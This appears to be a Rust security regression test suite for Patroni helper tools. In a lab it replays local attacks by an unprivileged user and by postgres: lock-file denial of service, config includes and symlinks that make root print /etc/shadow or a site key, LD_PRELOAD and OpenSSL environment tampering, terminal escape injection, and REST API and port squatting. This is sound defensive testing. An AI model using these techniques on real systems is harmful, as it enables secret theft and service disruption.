//! The attacks that were found in 0.1.0, on three booted machines: by mallory, a local user without any rights, and by user postgres,
//! which a superuser of PostgreSQL is. Each is first seen to succeed against 0.1.0 (`make check-all`), and gets nothing now.

use std::net::Ipv4Addr;
use std::thread::sleep;
use std::time::{Duration, Instant};

use anyhow::{Context, Result, ensure};
use lab::patroni::{self, Cluster};
use lab::watch::{Held, Watch};
use lab::{Lab, Node, Release, Task};

const MACHINES: [&str; 3] = ["pg1", "pg2", "pg3"];

const VIP: Ipv4Addr = Ipv4Addr::new(10, 88, 0, 100);

const LEASE: Duration = Duration::from_secs(6);

const TTL: Duration = Duration::from_secs(20);

const SETTINGS: &str = "TTL=20\nLOOP_WAIT=2\nRETRY_TIMEOUT=5\nVIPS=10.88.0.100/24\nVIP_LEASE=6\n\
    MEMBERS=pg1=10.88.0.11,pg2=10.88.0.12,pg3=10.88.0.13\n";

const WITH_TLS: &str = "RESTAPI_CERT=/etc/patroni/tls/member.pem\nRESTAPI_KEY=/etc/patroni/tls/member.key\n\
    RESTAPI_CACERT=/etc/patroni/tls/ca.pem\n";

const REST_PORT: u16 = 8008;

/// How long an attacker tries.
const TRIES: Duration = Duration::from_secs(25);

/// A program of ours that takes longer hangs.
const HANGS: u32 = 15;

/// What an attacker got, if anything.
type Got = Option<String>;

struct Attack {
    what: &'static str,
    run: fn(&Arena) -> Result<Got>,
    /// Did it succeed against 0.1.0 on Debian 12, too? On Debian 13 each did.
    worked_on_12: bool,
}

static ATTACKS: [Attack; 14] = [
    Attack { what: "S3 mallory holds the locks of dnscp", run: holds_the_lock, worked_on_12: true },
    Attack {
        what: "S3 mallory holds the service's lock at its start",
        run: keeps_the_service_down,
        worked_on_12: true,
    },
    Attack { what: "S8 mallory locks patroni-gen-config out", run: locks_the_generator, worked_on_12: true },
    Attack { what: "S5 postgres makes root print or hang", run: shows_files_of_root, worked_on_12: true },
    Attack { what: "S7 postgres leads a directory elsewhere", run: leads_a_directory_elsewhere, worked_on_12: true },
    Attack { what: "S9 postgres has the site key", run: owns_the_site_key, worked_on_12: true },
    Attack { what: "S9 a FIFO as site key", run: key_that_hangs, worked_on_12: true },
    // systemd 252 does not follow.
    Attack { what: "S1 postgres swaps a directory under systemd", run: swaps_a_directory, worked_on_12: false },
    Attack { what: "S6 an answer moves root's cursor", run: moves_the_cursor, worked_on_12: true },
    Attack { what: "S10 idle connections to the REST API", run: keeps_connections, worked_on_12: true },
    Attack { what: "S4 mallory is taken for Patroni", run: is_taken_for_patroni, worked_on_12: true },
    Attack {
        what: "S4 mallory on the port of a member that is down",
        run: is_asked_about_the_role,
        worked_on_12: true,
    },
    Attack { what: "mallory takes PostgreSQL's port in a restart", run: takes_the_port, worked_on_12: true },
    Attack {
        what: "S11 etcd's certificate is taken for Patroni's",
        run: shows_another_certificate,
        worked_on_12: true,
    },
];

#[test]
fn debian_12() -> Result<()> {
    lab::test(Release::Debian12, &MACHINES, nothing_is_got)
}

#[test]
fn debian_13() -> Result<()> {
    lab::test(Release::Debian13, &MACHINES, nothing_is_got)
}

#[test]
#[ignore = "make check-all: 0.1.0, which is not what make check is about"]
fn version_0_1_0_on_debian_12() -> Result<()> {
    lab::test(Release::Debian12, &MACHINES, each_succeeds)
}

#[test]
#[ignore = "make check-all: 0.1.0, which is not what make check is about"]
fn version_0_1_0_on_debian_13() -> Result<()> {
    lab::test(Release::Debian13, &MACHINES, each_succeeds)
}

fn nothing_is_got(lab: &Lab) -> Result<()> {
    lab.offer(&[patroni::package()?])?;
    let arena = Arena::set_up(lab)?;
    let got = arena.attacked()?;
    let got: Vec<String> =
        got.into_iter().filter_map(|(attack, got)| Some(format!("{}: {}", attack.what, got?))).collect();
    ensure!(got.is_empty(), "Debian {}:\n{}", lab.release(), got.join("\n"));
    arena.what_held()
}

fn each_succeeds(lab: &Lab) -> Result<()> {
    lab.offer(&[patroni::previous_package()?])?;
    let arena = Arena { before: true, ..Arena::set_up(lab)? };
    let got = arena.attacked()?;
    let expected = |attack: &Attack| attack.worked_on_12 || lab.release() == Release::Debian13;
    let failed: Vec<&str> =
        got.iter().filter(|(attack, got)| got.is_none() && expected(attack)).map(|(attack, _)| attack.what).collect();
    ensure!(failed.is_empty(), "Debian {}: against 0.1.0 these got nothing: {failed:?}", lab.release());
    Ok(())
}

struct Arena<'a> {
    lab: &'a Lab,
    main: Cluster<'a>,
    /// Is 0.1.0 attacked?
    before: bool,
}

impl<'a> Arena<'a> {
    fn set_up(lab: &'a Lab) -> Result<Self> {
        let main = Cluster::new(lab, "main");
        patroni::install_offered(lab)?;
        lab.start_etcd()?;
        lab.each(|node| {
            node.run(
                "useradd --create-home mallory && install -d -m 700 /etc/victim && cp -p /etc/shadow /etc/victim/",
            )?;
            for (name, text) in [
                ("swap", include_str!("security/swap.py")),
                ("lie", include_str!("security/lie.py")),
                ("idle", include_str!("security/idle.py")),
                ("names", include_str!("security/names.py")),
            ] {
                node.write(&format!("/usr/local/bin/{name}.py"), text, 0o755)?;
            }
            node.write("/etc/default/patroni", SETTINGS, 0o644)
        })?;
        main.generate()?;
        // As an administrator who tries it out before the start: root is the first then who opens the locks.
        let tried = format!("dnscp status {0}; dnscp -vips {VIP}/24 -- on_stop replica {0}", main.dashed());
        lab.each(|node| node.try_run(&tried).map(drop))?;
        main.start()?;
        let arena = Self { lab, main, before: false };
        arena.is_well()?;
        Ok(arena)
    }

    /// All attacks, or those with what `ATTACK` says in their name, one after the other, each on a cluster that is whole.
    fn attacked(&self) -> Result<Vec<(&'static Attack, Got)>> {
        let mut all = Vec::new();
        let wanted = std::env::var("ATTACK").unwrap_or_default();
        for attack in ATTACKS.iter().filter(|attack| attack.what.contains(&wanted)) {
            let begin = Instant::now();
            let release = self.lab.release();
            let got = (attack.run)(self).with_context(|| format!("Debian {release}: {}", attack.what))?;
            let said = got.as_deref().unwrap_or("nothing");
            println!("Debian {release}: {}: {said} ({:.0} s)", attack.what, begin.elapsed().as_secs_f32());
            self.is_well().with_context(|| format!("Debian {release}: after {}", attack.what))?;
            all.push((attack, got));
        }
        Ok(all)
    }

    /// Three members, and the primary has the address.
    fn is_well(&self) -> Result<()> {
        self.main.wait_streaming(2, Duration::from_secs(120))?;
        self.lab.wait_until(Duration::from_secs(40), "the primary alone has the address", || {
            let primary = self.main.primary()?.name();
            let holders: Vec<&str> =
                self.lab.nodes().iter().filter(|node| holds(node).unwrap_or(false)).map(Node::name).collect();
            ensure!(holders == [primary], "{primary} is the primary, and the address is on {holders:?}");
            Ok(true)
        })
    }

    fn primary(&self) -> Result<&'a Node> {
        self.main.primary()
    }

    fn version(&self) -> &'static str {
        self.lab.release().postgresql()
    }

    fn restart_patroni(&self, node: &Node) -> Result<()> {
        node.run(&format!(
            "systemctl reset-failed '*@{0}.service'; systemctl start {1}",
            self.main.dashed(),
            self.main.unit()
        ))
        .map(drop)
    }

    fn kill_patroni(&self, node: &Node) -> Result<()> {
        node.run(&format!("kill -9 $(systemctl show --property=MainPID --value {})", self.main.unit())).map(drop)
    }

    fn status(&self, node: &Node) -> Result<String> {
        let run = node.try_run(&format!("timeout {HANGS} dnscp status {}", self.main.dashed()))?;
        ensure!(run.status.code() != Some(124), "dnscp status hangs");
        ensure!(!run.stderr.contains("panicked"), "dnscp status: {run}");
        Ok(format!("{}{}", run.stdout, run.stderr))
    }
}

/// Root's generator with these words. Gives why that would be what an attacker wants, if it is.
fn generator(node: &Node, words: &str) -> Result<Got> {
    let begin = Instant::now();
    // What reads without an end must not take the memory of all machines.
    let limited = format!("prlimit --as=2000000000 timeout {HANGS} patroni-gen-config {words}");
    let run = node.try_run(&limited)?;
    let said = format!("{}{}", run.stdout, run.stderr);
    let key = node.read("/etc/patroni/site.key")?;
    let shadow = node.read("/etc/shadow")?;
    let secret = key.lines().filter(|line| line.len() == 64).chain(shadow.lines().take(1));
    if let Some(secret) = secret.into_iter().find(|secret| said.contains(secret)) {
        return Ok(Some(format!(
            "patroni-gen-config {words} printed '{}…'",
            secret.chars().take(8).collect::<String>()
        )));
    }
    if run.status.code() == Some(124) {
        return Ok(Some(format!("patroni-gen-config {words} hangs")));
    }
    if said.contains("memory") || run.status.code().is_none_or(|code| code > 2) {
        return Ok(Some(format!("patroni-gen-config {words} ended with {}: {}", run.status, said.trim())));
    }
    ensure!(begin.elapsed() < Duration::from_secs(u64::from(HANGS)), "it took {:?}", begin.elapsed());
    Ok(None)
}

/// A server in Patroni's place, which waits for the port.
fn lie(node: &Node, user: &str, manner: &str, seconds: u64, certificate: &str) -> Result<Task> {
    node.spawn_as(user, &format!("exec lie.py {} {REST_PORT} {seconds} {manner} {certificate}", node.ipv4()))
}

fn holds(node: &Node) -> Result<bool> {
    Ok(node.run("ip -j address show")?.contains(&format!("\"{VIP}\"")))
}

/// The longest time in which no machine had the address.
fn longest_gap(held: &[Held], from: Duration, to: Duration) -> Duration {
    let (mut covered, mut longest) = (from, Duration::ZERO);
    for one in held {
        longest = longest.max(one.from.min(to).saturating_sub(covered));
        covered = covered.max(one.to);
    }
    longest.max(to.saturating_sub(covered))
}

/// Waits for what a task says, or that it ended.
fn says(task: &mut Task, word: &str, limit: Duration) -> Result<bool> {
    let end = Instant::now() + limit;
    loop {
        if task.stdout_so_far()?.contains(word) {
            return Ok(true);
        }
        if !task.running()? || Instant::now() > end {
            return Ok(false);
        }
        sleep(Duration::from_millis(50));
    }
}

// ---- locks

/// Every file of ours that a lock could be on, as far as mallory can open it.
const LOCKS: &str =
    "/run/postgresql/.dnscp.* /run/patroni-tools /run/patroni-tools/* /run/lock/patroni* /etc/patroni /etc/patroni/.*";

fn hold_locks(node: &Node, kind: &str) -> Result<Task> {
    let seconds = TRIES.as_secs();
    node.spawn_as(
        "mallory",
        &format!(
            "for file in {LOCKS}; do flock {kind} --wait {seconds} $file sh -c \"echo holds $file; exec sleep {seconds}\" & done; wait"
        ),
    )
}

fn holds_the_lock(arena: &Arena) -> Result<Got> {
    let primary = arena.primary()?;
    let watch = Watch::begin(arena.lab, VIP)?;
    let mut task = hold_locks(primary, "--exclusive")?;
    let begin = watch.now();
    sleep(TRIES);
    let end = watch.now();
    let (held, _) = watch.end()?;
    says(&mut task, "\n\n", Duration::ZERO)?;
    let locks = task.kill()?.stdout;
    let gap = longest_gap(&held, begin, end);
    Ok((gap > Duration::from_secs(1))
        .then(|| format!("{} and the address was away for {gap:.1?}", locks.trim().replace('\n', ", "))))
}

fn keeps_the_service_down(arena: &Arena) -> Result<Got> {
    let primary = arena.primary()?;
    let unit = format!("dnscp@{}.service", arena.main.dashed());
    let task = hold_locks(primary, "--exclusive")?;
    sleep(Duration::from_secs(1));
    primary.try_run(&format!("systemctl restart {unit}"))?;
    sleep(Duration::from_secs(3));
    let mut down = 0;
    let begin = Instant::now();
    while begin.elapsed() < Duration::from_secs(18) {
        let state = primary.try_run(&format!("systemctl is-active {unit}"))?.stdout;
        down += u32::from(state.trim() != "active");
        sleep(Duration::from_millis(300));
    }
    task.kill()?;
    primary.try_run(&format!("systemctl reset-failed {unit}; systemctl start {unit}"))?;
    Ok((down > 0).then(|| format!("{unit} was not active {down} times")))
}

fn locks_the_generator(arena: &Arena) -> Result<Got> {
    let node = arena.primary()?;
    let task = hold_locks(node, "--shared")?;
    sleep(Duration::from_secs(1));
    let run = node.try_run(&format!("timeout {HANGS} patroni-gen-config {}", arena.main.slashed()))?;
    task.kill()?;
    Ok((!run.status.success()).then(|| run.stderr.trim().to_owned()))
}

// ---- what root reads and makes

fn shows_files_of_root(arena: &Arena) -> Result<Got> {
    let node = arena.main.replica()?;
    let evil = format!("/etc/postgresql/{}/evil", arena.version());
    let conf = format!("{evil}/postgresql.conf");
    let fan_out = format!(
        "for level in $(seq 0 8); do mkdir -p {evil}/d$level; for n in $(seq 12); do \
         echo \"include_dir '{evil}/d$((level + 1))'\" > {evil}/d$level/$n.conf; done; done; echo \"include_dir '{evil}/d0'\" > {conf}"
    );
    let baits = [
        ("the site key", format!("echo \"include '/etc/patroni/site.key'\" > {conf}")),
        ("the passwords", format!("echo \"include '/etc/shadow'\" > {conf}")),
        ("a link", format!("ln -s /etc/shadow {conf}")),
        ("a link to the key", format!("ln -s /etc/patroni/site.key {conf}")),
        ("a FIFO", format!("mkfifo {conf}")),
        (
            "a FIFO in the data",
            format!("echo \"data_directory = '{evil}'\" > {conf}; mkfifo {evil}/postgresql.auto.conf"),
        ),
        (
            "a link in the data",
            format!("echo \"data_directory = '{evil}'\" > {conf}; ln -s /etc/shadow {evil}/postgresql.auto.conf"),
        ),
        ("the passwords as a directory", format!("echo \"include_dir '/etc/patroni'\" > {conf}")),
        ("a device", format!("echo \"include '/dev/zero'\" > {conf}")),
        ("a large file", format!("truncate --size=1G {evil}/large.conf; echo \"include 'large.conf'\" > {conf}")),
        ("many files", fan_out),
    ];
    let mut got = Vec::new();
    for (what, script) in &baits {
        node.run_as("postgres", &format!("mkdir -p {evil} && {script}"))?;
        for words in [
            format!("--dry-run {}/other", arena.version()),
            format!("--check --offline {}", arena.main.slashed()),
            arena.main.slashed(),
        ] {
            if let Some(success) = generator(node, &words)? {
                got.push(format!("{what}: {success}"));
                break;
            }
        }
        node.run(&format!("rm -rf {evil}"))?;
    }
    Ok((!got.is_empty()).then(|| got.join("; ")))
}

fn leads_a_directory_elsewhere(arena: &Arena) -> Result<Got> {
    let node = arena.main.replica()?;
    let made = "/etc/systemd/system/cron.service.d";
    // What raft needs of Python is looked for by name only.
    node.run(
        "for packages in /usr/lib/python3.*; do mkdir -p /usr/local/lib/${packages##*/}/dist-packages/pysyncobj; done",
    )?;
    node.run_as("postgres", "ln -s /etc/systemd/system /var/lib/postgresql/raft")?;
    let words =
        format!("--set DCS=raft --set RAFT_DATA_DIR=/var/lib/postgresql/raft/cron.service.d {}/raft", arena.version());
    let run = node.try_run(&format!("timeout {HANGS} patroni-gen-config {words}"))?;
    let found = node.try_run(&format!("stat -c '%U %n' {made}"))?.stdout;
    node.run(&format!(
        "rm -rf {made} /var/lib/postgresql/raft /usr/local/lib/python3.*/dist-packages/pysyncobj /etc/patroni/{}-raft.*",
        arena.version()
    ))?;
    ensure!(!found.is_empty() || run.stderr.contains("/var/lib/postgresql/raft"), "for another reason: {run}");
    Ok((!found.is_empty()).then(|| found.trim().to_owned()))
}

fn owns_the_site_key(arena: &Arena) -> Result<Got> {
    let node = arena.main.replica()?;
    let key = "/var/lib/postgresql/site.key";
    node.run_as("postgres", &format!("umask 077; printf '%064d\\n' 7 > {key}"))?;
    let run =
        node.try_run(&format!("patroni-gen-config --dry-run --set SITE_KEY_FILE={key} {}/other", arena.version()))?;
    node.run(&format!("rm {key}"))?;
    ensure!(run.status.success() || run.stderr.contains(key), "for another reason: {run}");
    Ok(run.status.success().then(|| format!("a file with passwords from {key}")))
}

fn key_that_hangs(arena: &Arena) -> Result<Got> {
    let node = arena.main.replica()?;
    let key = "/var/lib/postgresql/site.fifo";
    node.run_as("postgres", &format!("mkfifo -m 600 {key}"))?;
    let got = generator(node, &format!("--dry-run --set SITE_KEY_FILE={key} {}/other", arena.version()));
    node.run(&format!("rm {key}"))?;
    got
}

fn swaps_a_directory(arena: &Arena) -> Result<Got> {
    let node = arena.main.replica()?;
    let unit = arena.main.unit();
    let directory = format!("/run/postgresql/{}.pg_stat_tmp", arena.main.dashed());
    let task = node.spawn_as("postgres", &format!("exec swap.py {directory} /etc/victim {}", TRIES.as_secs()))?;
    let begin = Instant::now();
    let (mut starts, mut owner) = (0, "root".to_owned());
    while begin.elapsed() < TRIES && owner == "root" {
        node.try_run(&format!(
            "systemctl kill --kill-whom=main --signal=KILL {unit}; sleep 0.7; systemctl reset-failed {unit}; systemctl start --no-block {unit}; sleep 0.3"
        ))?;
        node.run("stat -c %U /etc/victim")?.trim().clone_into(&mut owner);
        starts += 1;
    }
    let swapped = task.wait(TRIES + Duration::from_secs(10))?.ok()?;
    println!("  {starts} starts, {}", swapped.trim());
    ensure!(starts > 5 || owner != "root", "only {starts} starts");
    node.run(&format!("chown -R root:root /etc/victim; rm -rf {directory} /run/postgresql/swapped"))?;
    arena.restart_patroni(node)?;
    Ok((owner != "root").then(|| format!("/etc/victim belongs to {owner} after {starts} starts")))
}

// ---- the REST API

/// By user postgres, who is believed: what it says is harmless all the same.
fn moves_the_cursor(arena: &Arena) -> Result<Got> {
    let node = arena.main.replica()?;
    node.run(&format!("systemctl stop {}", arena.main.unit()))?;
    let mut task = lie(node, "postgres", "escape", 30, "")?;
    ensure!(says(&mut task, "bound", Duration::from_secs(10))?, "the port is not free");
    let said = arena.status(node)?;
    task.kill()?;
    arena.restart_patroni(node)?;
    // 0.1.0 quoted the answer.
    ensure!(said.contains("999") || said.contains("is not Patroni"), "dnscp did not read the answer: {said}");
    Ok(said.contains('\u{1b}').then(|| format!("an escape sequence on root's terminal: {}", said.escape_debug())))
}

fn keeps_connections(arena: &Arena) -> Result<Got> {
    const SECONDS: u64 = 90;
    let (primary, from) = (arena.primary()?, arena.main.replica()?);
    let since = primary.run("date '+%F %T'")?;
    let watch = Watch::begin(arena.lab, VIP)?;
    let begin = watch.now();
    let mut task = from.spawn_as("mallory", &format!("exec idle.py {} {REST_PORT} 1500 {SECONDS}", primary.ipv4()))?;
    says(&mut task, "connections", Duration::from_secs(SECONDS))?;
    sleep(Duration::from_secs(SECONDS - 2).saturating_sub(watch.now().saturating_sub(begin)));
    let main_pid = format!("$(systemctl show --property=MainPID --value {})", arena.main.unit());
    let descriptors = primary.run(&format!("ls /proc/{main_pid}/fd | wc -l"))?;
    let end = watch.now();
    let (held, _) = watch.end()?;
    let made = task.kill()?.stdout.trim().to_owned();
    println!("  {made}, {} descriptors", descriptors.trim());
    let gap = longest_gap(&held, begin, end);
    let log =
        primary.run(&format!("journalctl --no-pager -o cat --since='{}' -u {}", since.trim(), arena.main.unit()))?;
    let blind = if log.contains("Too many open files") { "was" } else { "was not" };
    let made: u32 = made.split(' ').next().unwrap_or_default().parse().unwrap_or(0);
    ensure!(arena.before || made > 1024, "only {made} connections: that is no attack");
    Ok((gap > Duration::from_secs(1) || blind == "was")
        .then(|| format!("the address was away for {gap:.1?}, Patroni {blind} blind")))
}

/// mallory has the port as soon as Patroni is dead, and says that this is the primary for as long as he likes.
fn is_taken_for_patroni(arena: &Arena) -> Result<Got> {
    let old = arena.primary()?;
    let since = old.run("date '+%F %T'")?;
    let mut task = lie(old, "mallory", "primary", 75, "")?;
    let watch = Watch::begin(arena.lab, VIP)?;
    let mut killed = watch.now();
    // He is as fast as systemd, most of the time.
    for _ in 0..5 {
        killed = watch.now();
        arena.kill_patroni(old)?;
        if says(&mut task, "bound", Duration::from_secs(3))? {
            break;
        }
        arena
            .lab
            .wait_until(Duration::from_secs(30), "Patroni is back", || Ok(arena.primary()?.name() == old.name()))?;
    }
    let bound = task.stdout_so_far()?;
    ensure!(bound.contains("bound"), "mallory did not get the port: {bound}");
    let pid = bound.trim().rsplit(' ').next().unwrap_or_default().to_owned();
    let successor =
        arena.lab.wait_until(Duration::from_secs(50), "another member is the primary and has the address", || {
            let others = arena.lab.nodes().iter().filter(|node| node.name() != old.name());
            let others: Vec<bool> = others.map(holds).collect::<Result<_>>()?;
            Ok(others.contains(&true))
        });
    sleep(Duration::from_secs(3));
    let (held, _) = watch.end()?;
    let until = held.iter().filter(|one| one.node == old.name()).map(|one| one.to).max().unwrap_or_default();
    let next = held.iter().filter(|one| one.node != old.name()).map(|one| one.from).min();
    let after = |moment: Duration| moment.saturating_sub(killed);
    println!("  the address left after {:.1?} and was on another member after {:.1?}", after(until), next.map(after));
    let journal = format!("journalctl --no-pager -o cat --since='{}' -u 'patroni@*' -u 'dnscp@*'", since.trim());
    let said = old.run(&journal)?;
    let doctor = old.try_run(&format!("patroni-gen-config --check {}", arena.main.slashed()))?;
    task.kill()?;
    arena.restart_patroni(old)?;
    if after(until) > LEASE + Duration::from_secs(2) || successor.is_err() {
        return Ok(Some(format!("the address stayed for {:.0?}", after(until))));
    }
    let next = next.context("no other member had the address")?;
    ensure!(
        after(next) < TTL + Duration::from_secs(10),
        "the new primary has the address only after {:?}",
        after(next)
    );
    if !arena.before {
        let uid = old.run("id -u mallory")?.trim().to_owned();
        let doctor = format!("{}{}", doctor.stdout, doctor.stderr);
        for (who, text) in [("the journal", &said), ("the doctor", &doctor)] {
            ensure!(text.contains(&uid) && text.contains(&pid), "{who} does not name uid {uid} and pid {pid}:\n{text}");
        }
    }
    Ok(None)
}

/// PostgreSQL starts with the addresses that are left, and Patroni finds it well.
fn takes_the_port(arena: &Arena) -> Result<Got> {
    let old = arena.primary()?;
    let restart = format!("restart {} {} --force", arena.main.dashed(), old.name());
    let mut task = old.spawn_as("mallory", "exec lie.py 0.0.0.0 5432 90 primary")?;
    for _ in 0..5 {
        arena.main.patronictl(old, &restart)?;
        if says(&mut task, "bound", Duration::from_secs(1))? {
            break;
        }
    }
    ensure!(task.stdout_so_far()?.contains("bound"), "mallory did not get the port");
    let gone = arena.lab.wait_until(Duration::from_secs(10), "the address is gone", || Ok(!holds(old)?)).is_ok();
    let said = arena.status(old)?;
    let doctor = old.try_run(&format!("patroni-gen-config --check --offline {}", arena.main.slashed()))?;
    sleep(Duration::from_secs(2));
    let stays = holds(old)?;
    task.kill()?;
    arena.main.patronictl(old, &restart)?;
    if !gone || stays {
        return Ok(Some("the address stays where mallory has PostgreSQL's port".to_owned()));
    }
    ensure!(said.contains("of user mallory") && said.contains("port 5432"), "dnscp status: {said}");
    ensure!(!doctor.status.success() && doctor.stderr.contains("of user mallory"), "the doctor: {doctor}");
    Ok(None)
}

fn is_asked_about_the_role(arena: &Arena) -> Result<Got> {
    let node = arena.main.replica()?;
    node.run(&format!("systemctl stop {}", arena.main.unit()))?;
    let mut task = lie(node, "mallory", "primary", 30, "")?;
    ensure!(says(&mut task, "bound", Duration::from_secs(10))?, "the port is not free");
    let said = arena.status(node)?;
    task.kill()?;
    arena.restart_patroni(node)?;
    Ok(said.contains("role:    primary").then(|| said.trim().to_owned()))
}

fn shows_another_certificate(arena: &Arena) -> Result<Got> {
    let generate = format!("patroni-gen-config {}", arena.main.slashed());
    arena.lab.each(|node| {
        node.run(&format!("patroni-gen-config --for tls {}", arena.main.slashed()))?;
        node.write("/etc/default/patroni", format!("{SETTINGS}{WITH_TLS}"), 0o644)?;
        node.run(&format!("{generate} && systemctl restart {}", arena.main.unit())).map(drop)
    })?;
    arena.is_well()?;
    let node = arena.main.replica()?;
    node.run(&format!("systemctl stop {}", arena.main.unit()))?;
    let certificate = "/etc/patroni/tls/etcd.pem /etc/patroni/tls/etcd.key";
    let mut task = lie(node, "etcd", "primary", 30, certificate)?;
    ensure!(says(&mut task, "bound", Duration::from_secs(10))?, "the port is not free: {}", task.kill()?);
    sleep(Duration::from_millis(500));
    let said = arena.status(node)?;
    task.kill()?;
    arena.restart_patroni(node)?;
    Ok(said.contains("role:    primary").then(|| said.trim().to_owned()))
}

// ---- what was tried on 0.1.0, too, and held

impl Arena<'_> {
    fn what_held(&self) -> Result<()> {
        for (what, check) in [
            ("the environment of dnscp", Self::environment as fn(&Self) -> Result<()>),
            ("limits and descriptors", Self::limits),
            ("what answers in Patroni's place", Self::answers),
            ("name servers that answer anything", Self::name_servers),
            ("a DCS that answers anything", Self::dcs_servers),
            ("a purge with what postgres left in its way", Self::purge),
            ("a flood of ARP", Self::arp),
        ] {
            let begin = Instant::now();
            let release = self.lab.release();
            check(self).with_context(|| format!("Debian {release}: {what}"))?;
            println!("Debian {release}: {what}: held ({:.0} s)", begin.elapsed().as_secs_f32());
        }
        self.is_well()
    }

    /// User postgres calls a program with capabilities, in an environment of its own choice.
    fn environment(&self) -> Result<()> {
        let node = self.main.replica()?;
        let call = format!("/usr/libexec/patroni-tools/dnscp on_role_change primary {}", self.main.dashed());
        let own = "/var/lib/postgresql/own";
        node.run_as(
            "postgres",
            &format!(
                "mkdir -p {own}/etc/default {own}/etc/patroni && echo VIPS=10.88.0.66/24 > {own}/etc/default/patroni && \
                 printf 'openssl_conf = x\\n[x]\\nengines = e\\n[e]\\nd = d\\n[d]\\ndynamic_path = /nowhere.so\\ninit = 1\\n' > {own}/openssl.cnf"
            ),
        )?;
        for variable in [
            format!("PATRONI_TOOLS_ROOT={own}"),
            format!("OPENSSL_CONF={own}/openssl.cnf OPENSSL_MODULES={own} OPENSSL_ENGINES={own}"),
            format!("LD_PRELOAD={own}/x.so LD_AUDIT={own}/x.so LD_LIBRARY_PATH={own}"),
            format!("SSL_CERT_FILE={own}/x SSL_CERT_DIR={own} SSLKEYLOGFILE=/etc/cron.d/keys"),
            "GLIBC_TUNABLES=glibc.malloc.check=3 MALLOC_CHECK_=3 RUST_BACKTRACE=full".to_owned(),
            format!("PATH={own} HOME={own} TMPDIR=/nowhere LANG=x"),
        ] {
            let run = node.try_run_as("postgres", &format!("timeout {HANGS} env {variable} {call}"))?;
            ensure!(run.status.code().is_some_and(|code| code < 3), "{variable}: {run}");
            ensure!(!run.stderr.contains("panicked") && !run.stderr.contains("x.so"), "{variable}: {run}");
        }
        let addresses = node.run("ip -j address show")?;
        ensure!(!addresses.contains("10.88.0.66") && !holds(node)?, "an address was taken: {addresses}");
        ensure!(!node.try_run("test -e /etc/cron.d/keys")?.status.success(), "a file was made in /etc/cron.d");
        // Nor do other members of the group get more than its status.
        node.run("useradd --create-home --groups postgres grace")?;
        let run = node.try_run_as("grace", &call)?;
        ensure!(!run.status.success() && run.stderr.contains("only root and postgres"), "{run}");
        let run = node.try_run_as("grace", "touch /run/patroni-tools/dnscp.other.lock")?;
        ensure!(!run.status.success(), "a member of the group makes locks: {run}");
        // Nor does the service show what it has.
        let pid = node.run(&format!("systemctl show --property=MainPID --value dnscp@{}", self.main.dashed()))?;
        let looks = format!("cat /proc/{0}/mem /proc/{0}/environ /proc/{0}/maps", pid.trim());
        let run = node.try_run_as("postgres", &looks)?;
        ensure!(!run.status.success() && run.stderr.matches("denied").count() >= 3, "{run}");
        node.run(&format!("rm -r {own}")).map(drop)
    }

    fn limits(&self) -> Result<()> {
        let node = self.main.replica()?;
        let call = format!("/usr/libexec/patroni-tools/dnscp on_role_change primary {}", self.main.dashed());
        for limit in ["ulimit -n 3", "ulimit -n 6", "ulimit -f 0", "ulimit -v 20000", "ulimit -s 64", "ulimit -u 1"] {
            let run = node.try_run_as("postgres", &format!("{limit}; exec timeout {HANGS} {call}"))?;
            ensure!(run.status.code() != Some(124), "{limit}: it hangs: {run}");
        }
        for closed in ["<&-", ">&-", "2>&-", "<&- >&- 2>&-"] {
            let run = node.try_run_as("postgres", &format!("timeout {HANGS} {call} {closed}"))?;
            ensure!(run.status.code().is_some_and(|code| code < 3), "{closed}: {run}");
        }
        ensure!(!holds(node)?, "a replica has taken the address");
        Ok(())
    }

    /// By user postgres, so that it is read.
    fn answers(&self) -> Result<()> {
        let node = self.main.replica()?;
        node.run(&format!("systemctl stop {}", self.main.unit()))?;
        for manner in ["mute", "drip", "flood", "headers", "nested", "random", "reset"] {
            let mut task = lie(node, "postgres", manner, 30, "")?;
            ensure!(says(&mut task, "bound", Duration::from_secs(10))?, "{manner}: the port is not free");
            let begin = Instant::now();
            let said = self.status(node)?;
            let took = begin.elapsed();
            task.kill()?;
            ensure!(took < Duration::from_secs(5) && said.len() < 10_000, "{manner}: {took:?}: {said}");
            ensure!(said.contains("role:    Patroni does not answer"), "{manner}: {said}");
        }
        self.restart_patroni(node)?;
        self.is_well()
    }

    /// What is asked of the name's servers ends in time, whatever they answer.
    fn name_servers(&self) -> Result<()> {
        let node = self.main.replica()?;
        let dns = "DNS_ZONE=db.test\nDNS_SERVERS=127.0.0.1\nDNS_AUTH=none\n";
        node.write("/etc/default/patroni", format!("{SETTINGS}{WITH_TLS}{dns}"), 0o644)?;
        for manner in ["mute", "random", "alias", "loop", "counts", "nothing", "truncated", "numbers", "many"] {
            let mut task = node.spawn(&format!("exec names.py 127.0.0.1 60 {manner}"))?;
            ensure!(says(&mut task, "bound", Duration::from_secs(10))?, "{manner}: port 53 is not free");
            let begin = Instant::now();
            let said = self.status(node)?;
            let looked = begin.elapsed();
            let call = format!(
                "timeout 40 dnscp -dnsserver 127.0.0.1 -dnszonefqdn db.test -- on_role_change primary {}",
                self.main.dashed()
            );
            let run = node.try_run(&call)?;
            let took = begin.elapsed().saturating_sub(looked);
            task.kill()?;
            ensure!(
                looked < Duration::from_secs(6) && took < Duration::from_secs(25),
                "{manner}: {looked:?}, {took:?}"
            );
            let said = format!("{said}{}{}", run.stdout, run.stderr);
            ensure!(!said.contains("panicked") && said.len() < 20_000, "{manner}: {said}");
            ensure!(!said.chars().any(|c| c.is_control() && c != '\n'), "{manner}: {}", said.escape_debug());
        }
        node.write("/etc/default/patroni", format!("{SETTINGS}{WITH_TLS}"), 0o644)?;
        ensure!(!holds(node)?, "a replica has taken the address");
        Ok(())
    }

    /// The doctor asks a DCS that is none.
    fn dcs_servers(&self) -> Result<()> {
        let node = self.main.replica()?;
        let other = format!("{}/other", self.version());
        for (dcs, manners) in [
            ("etcd3", &["mute", "drip", "flood", "headers", "nested", "random", "reset"][..]),
            ("consul", &["flood", "nested", "random"]),
            ("zookeeper", &["mute", "flood", "random"]),
        ] {
            node.run(
                "for packages in /usr/lib/python3.*; do for module in consul kazoo; do \
                mkdir -p /usr/local/lib/${packages##*/}/dist-packages/$module; done; done",
            )?;
            node.run(&format!("patroni-gen-config --set DCS={dcs} --set DCS_HOSTS=127.0.0.1:7777 {other}"))?;
            for manner in manners {
                let mut task = node.spawn_as("mallory", &format!("exec lie.py 127.0.0.1 7777 60 {manner}"))?;
                ensure!(says(&mut task, "bound", Duration::from_secs(10))?, "{dcs} {manner}: the port is not free");
                let begin = Instant::now();
